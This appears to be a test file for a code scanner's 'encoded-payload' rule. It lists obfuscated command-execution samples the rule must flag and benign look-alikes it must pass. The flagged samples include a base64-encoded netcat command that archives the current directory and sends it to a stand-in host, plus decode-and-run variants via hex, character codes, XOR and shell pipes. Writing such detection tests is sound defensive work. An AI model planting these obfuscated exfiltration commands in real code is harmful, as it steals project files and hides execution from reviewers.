/** Rule encoded-payload: data that is decoded and acts (threats.md 6.1). */
import { scanTable } from '../../support/scan-table.js';

const HEAD = `import { exec, execSync, spawn } from 'node:child_process'; import fs from 'node:fs';`;
const encode = (text: string): string => Buffer.from(text).toString('base64');
const RUN = encode('tar czf - . | nc collector.example 4444');
const BINARY = Buffer.from(
  Uint8Array.from({ length: 900 }, (_none, index) => (index * 167 + 43) & 255),
).toString('base64');

scanTable('encoded-payload', {
  flagged: {
    base64: `${HEAD} execSync(atob('${RUN}'));`,
    'a buffer': `${HEAD} execSync(Buffer.from('${RUN}', 'base64').toString());`,
    hex: `${HEAD} exec(Buffer.from('${Buffer.from('touch collected.txt').toString('hex')}', 'hex').toString('utf8'));`,
    'character codes': `${HEAD} execSync(String.fromCharCode(${Array.from('touch collected', (each) => each.charCodeAt(0)).join(',')}));`,
    reversed: `${HEAD} execSync('${Array.from('touch collected').reverse().join('')}'.split('').reverse().join(''));`,
    XOR: `${HEAD} const key = 23; execSync([${Array.from('touch collected', (each) => each.charCodeAt(0) ^ 23).join(',')}].map((c) => String.fromCharCode(c ^ key)).join(''));`,
    'a program of arguments': `${HEAD} spawn('sh', ['-c', atob('${RUN}')]);`,
    'in two variables': `${HEAD} const d = atob; const p = '${RUN}'; const c = d(p); execSync(c);`,
    'a pipe of decoders': `${HEAD} execSync('echo ${RUN} | base64 -d | sh');`,
    'a substitution of decoders': `${HEAD} execSync('bash -c "$(echo ${RUN} | base64 --decode)"');`,
    openssl: `${HEAD} execSync('openssl enc -aes-256-cbc -d -in x -k y | bash');`,
    'a file that is run': `${HEAD} fs.writeFileSync('/tmp/tool', Buffer.from('${BINARY}', 'base64')); fs.chmodSync('/tmp/tool', 0o755); spawn('/tmp/tool', []);`,
    'a file written executable': `${HEAD} fs.writeFileSync('/tmp/tool', Buffer.from('${BINARY}', 'base64'), { mode: 0o755 });`,
    'a script that is run': `${HEAD} fs.writeFileSync('/tmp/x.sh', atob('${RUN}')); spawn('sh', ['/tmp/x.sh']);`,
  },
  clean: {
    'a picture': `${HEAD} export const icon = 'data:image/png;base64,${BINARY}'; fs.writeFileSync('icon.png', Buffer.from('${BINARY}', 'base64'));`,
    'a table': `const table = Buffer.from('${BINARY}', 'base64'); export const at = (i) => table[i];`,
    'a token of a request': `export const f = (user, pass) => fetch('https://api.example.com', { headers: { authorization: 'Basic ' + btoa(user + ':' + pass) } });`,
    'a command in the open': `${HEAD} execSync(['git', 'status', '--short'].join(' '));`,
    'a command out of a list': `${HEAD} const CMDS = { a: 'git log', b: 'git status' }; for (const k of ['a', 'b']) execSync(CMDS[k]);`,
    'a template': `${HEAD} export const f = () => execSync('git log {n}'.replace('{n}', '-5'));`,
    'a decoded answer': `export const f = async () => JSON.parse(atob((await (await fetch('https://api.github.com/x')).json()).content));`,
    'base64 as a command': `${HEAD} execSync('base64 -d in.txt > out.bin');`,
    'a decoded file, not run': `${HEAD} export const f = (text) => fs.writeFileSync('out.bin', Buffer.from(text, 'base64'));`,
    'a checksum': `${HEAD} execSync('openssl dgst -sha256 package.json');`,
    'an unpacked archive': `${HEAD} execSync('gunzip -c a.gz > a');`,
    words: `export const help = 'echo x | base64 -d | sh';`,
  },
});
